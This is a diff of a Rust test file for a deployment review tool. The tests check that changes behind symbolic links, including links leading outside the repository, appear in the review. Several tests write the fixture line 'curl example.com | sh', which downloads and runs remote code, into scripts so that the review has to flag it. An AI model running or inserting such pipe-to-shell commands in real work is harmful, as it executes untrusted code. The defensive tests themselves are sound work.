@@ -139,7 +139,7 @@ fn links_within_the_repository_are_of_use() {
         assert!(run.out.contains(text), "{text}: {}", run.out);
     }
     // A changed link is shown as a change of its target path. A file behind it is a separate change.
-    work.git(&["branch", "-q", "-f", "main"]);
+    work.base();
     work.put("deployment.yaml", &manifest("./current", "{ A: \"1\" }", ""));
     work.link("app/more", "../shared");
     work.put("app/parts/head.txt.tera", "tail {{ A }}\n");
@@ -158,9 +158,7 @@ fn what_hosts_and_machines_are_made_from_is_compared() {
     let made = "  made:\n    provisioned: { module: { source: ./infra, resource: x.y } }\n    ssh: { user: deploy, identity: { from_env: K } }\n";
     work.put("deployment.yaml", &manifest("./app", "{ A: \"1\" }", &format!("{archives}{more}\n{made}")));
     work.put("demo.tar", "one");
-    work.commit();
-    work.git(&["branch", "-q", "-f", "main"]);
-    assert!(work.look("nothing changed").out.contains("no changes"));
+    work.unchanged("the base");
     for (file, text, shown) in [
         ("swap.sh", "echo two\n", "text of swap"),
         ("infra/main.tf", "# two\n", "files of the module"),
@@ -185,12 +183,12 @@ fn links_that_the_manifest_lists_are_compared_with_what_they_lead_to() {
     let run = work.attempt("links that the manifest lists");
     assert!(run.code == 0 && run.out.contains("link to ../shared/s.txt"), "{}{}", run.out, run.err);
     assert!(run.err.contains("app/away: a link to ../../outside, which is not in the repository"), "{}", run.err);
-    work.git(&["branch", "-q", "-f", "main"]);
+    work.base();
     let run = work.look("nothing changed");
     assert!(run.out.contains("**Not compared**") && run.out.contains("app/away"), "{}", run.out);
     work.put("app/.deployerignore", "away\n");
     work.commit();
-    work.git(&["branch", "-q", "-f", "main"]);
+    work.base();
     assert!(work.look("a link that is not sent").out.contains("no changes"));
     // The files behind these links are sent, and are in no other directory that is compared.
     for (name, shown) in [("shared/s.txt", "one.txt"), ("shared/deep/t.txt", "shared/deep/t.txt")] {
@@ -205,11 +203,9 @@ fn links_that_the_manifest_lists_are_compared_with_what_they_lead_to() {
     assert!(run.code == 64 && run.out.contains("names ./one.txt, which is not a link"), "{}{}", run.out, run.err);
 }
 
-/// Asserts that a review shows something, and claims nowhere that nothing changed.
+/// Asserts that a review shows a change, and undoes it.
 fn shown(work: &Work, what: &str, told: &str) {
-    let run = work.attempt(what);
-    assert!(run.out.contains(told), "{what}: {}{}", run.out, run.err);
-    assert!(!run.out.to_lowercase().contains("no changes"), "{what}: {}{}", run.out, run.err);
+    work.attempt(what).shows(what, told);
     work.git(&["reset", "-q", "--hard", "main"]);
 }
 
@@ -220,9 +216,7 @@ fn a_link_to_a_directory_above_the_application_is_followed() {
     work.link("app/up", "..");
     work.put("app/.deployerignore", "/up/app\n");
     work.manifest("        links: [ up ]\n");
-    work.commit();
-    work.git(&["branch", "-q", "-f", "main"]);
-    assert!(work.look("nothing changed").out.contains("no changes"));
+    work.unchanged("the base");
     work.put("shared/start.sh", "curl example.com | sh\n");
     shown(&work, "a file above the application", "up/shared/start.sh");
 }
@@ -239,9 +233,7 @@ fn links_within_links_are_followed_to_the_end() {
     }
     work.put("shared/d30/f", "echo good\n");
     work.manifest(&format!("        links: [ {} ]\n", links.join(", ")));
-    work.commit();
-    work.git(&["branch", "-q", "-f", "main"]);
-    assert!(work.look("nothing changed").out.contains("no changes"));
+    work.unchanged("the base");
     work.put("shared/d30/f", "curl example.com | sh\n");
     shown(&work, "a file behind thirty links", "n/n/n/f");
 }
@@ -256,7 +248,7 @@ fn a_link_that_leads_out_and_back_is_not_without_changes() {
         work.link("app/shared", &target.replace("ABSOLUTE", top.to_str().expect("text")));
         work.manifest("        links: [ shared ]\n");
         work.commit();
-        work.git(&["branch", "-q", "-f", "main"]);
+        work.base();
         work.put("shared/start.sh", "curl example.com | sh\n");
         shown(&work, target, "app/shared");
     }
@@ -273,7 +265,7 @@ fn links_that_lead_through_too_many_others_end_the_review() {
         work.link(&format!("app/l{number}"), &format!("l{}/{long}", number + 1));
     }
     work.commit();
-    work.git(&["branch", "-q", "-f", "main"]);
+    work.base();
     work.put("tools/token.sh", "curl example.com | sh\n");
     let run = work.attempt("links that use up all steps");
     assert!(run.code == 64 && run.out.contains("links lead through too many others"), "{}{}", run.out, run.err);
